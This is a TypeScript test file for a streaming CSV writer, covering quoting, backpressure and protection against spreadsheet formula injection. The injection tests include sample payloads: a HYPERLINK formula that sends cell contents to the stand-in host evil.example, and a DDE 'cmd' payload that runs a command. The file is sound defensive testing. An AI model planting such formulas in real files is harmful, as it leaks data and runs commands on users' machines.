import { PassThrough, Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CsvRow, writeCsv } from './csv.ts';

async function* listed(rows: readonly CsvRow[]): AsyncGenerator<CsvRow> {
  yield* rows;
}

async function written(header: readonly string[], ...rows: CsvRow[]): Promise<string> {
  const output = new PassThrough();
  const [all] = await Promise.all([text(output), writeCsv({ header, rows: listed(rows) }, output)]);
  return all;
}

describe('a CSV file', () => {
  it('begins with a byte order mark and a header, and ends lines as RFC 4180 says', async () => {
    const output = new PassThrough();
    const chunks: Buffer[] = [];
    output.on('data', (chunk: Buffer) => chunks.push(chunk));
    await writeCsv({ header: ['host', 'links'], rows: listed([['click.brand.com', 3]]) }, output);
    expect(Buffer.concat(chunks).toString('latin1')).toBe('\xef\xbb\xbfhost,links\r\nclick.brand.com,3\r\n');
  });

  it('has a header even when it has no rows', async () => {
    expect(await written(['host'])).toMatch(/^\uFEFF?host\r\n$/);
  });

  it.each([
    ['a,b', '"a,b"'],
    ['a "b"', '"a ""b"""'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    ['a\r\nb', '"a\r\nb"'],
    ['a\n=1+1', '"a\n=1+1"'],
    ['a;=1+1', '"a;=1+1"'],
    ['a\t=1+1', '"a\t=1+1"'],
    ['a|=1+1', '"a|=1+1"'],
    ['https://brand.com/?a;b', '"https://brand.com/?a;b"'],
    ['Überschrift', 'Überschrift'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [-3, '-3'],
  ])('writes %j as %s', async (value, expected) => {
    expect(await written(['x'], [value, 'end'])).toMatch(new RegExp(`x\r\n${literally(expected)},?`));
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '-2+3+cmd|" /C calc"!A0',
  ])('never lets %j be a formula', async (value) => {
    const [, row] = parse(await written(['x'], [value]), { bom: true }) as string[][];
    expect(row).toEqual([`'${value}`]);
  });

  it('preserves every text, and contains nothing that a spreadsheet would execute', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",;|\' a') }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1 }), async (rows) => {
        const file = await written(['a', 'b'], ...rows);
        const [, ...read] = parse(file, { bom: true, record_delimiter: '\r\n' }) as string[][];
        expect(read).toEqual(
          rows.map((row) => row.map((value) => (/^[=+\-@\t\r＝＋－＠]/.test(value) ? `'${value}` : value))),
        );
      }),
      { numRuns: 200 },
    );
  });

  it.each([',', ';', '\t', '|'])(
    'has no formula in any field for a program that separates fields by %j',
    async (delimiter) => {
      const values = ['a;=1+1', 'a,=1+1', 'a\t=1+1', 'a|=1+1', 'Shop; "=1+1', "x;'=1;+2;@3;-4"];
      const file = await written(['x'], ...values.map((value): CsvRow => [value]));
      const [, ...rows] = parse(file, { bom: true, delimiter }) as string[][];
      expect(rows).toEqual(values.map((value) => [value]));
    },
  );

  it('reads rows no faster than the client takes them, and stops when the client is gone', async () => {
    let read = 0;
    async function* endless(): AsyncGenerator<CsvRow> {
      for (;;) yield [`row ${++read} ${'x'.repeat(1000)}`];
    }
    let wanted = 0;
    const output = new Writable({
      write(_chunk, _encoding, done) {
        if (++wanted === 20) this.destroy(new Error('gone'));
        setImmediate(done);
      },
    });
    await expect(writeCsv({ header: ['x'], rows: endless() }, output)).rejects.toThrow('gone');
    const atTheEnd = read;
    await new Promise((later) => setTimeout(later, 20));
    expect(read).toBe(atTheEnd);
    expect(read).toBeLessThan(500);
  });

  it('ends with an error when reading its rows fails', async () => {
    async function* broken(): AsyncGenerator<CsvRow> {
      yield ['first'];
      throw new Error('the database is gone');
    }
    const output = new PassThrough();
    output.resume();
    await expect(writeCsv({ header: ['x'], rows: broken() }, output)).rejects.toThrow('the database is gone');
    expect(output.destroyed).toBe(true);
  });
});

function literally(expected: string): string {
  return expected.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
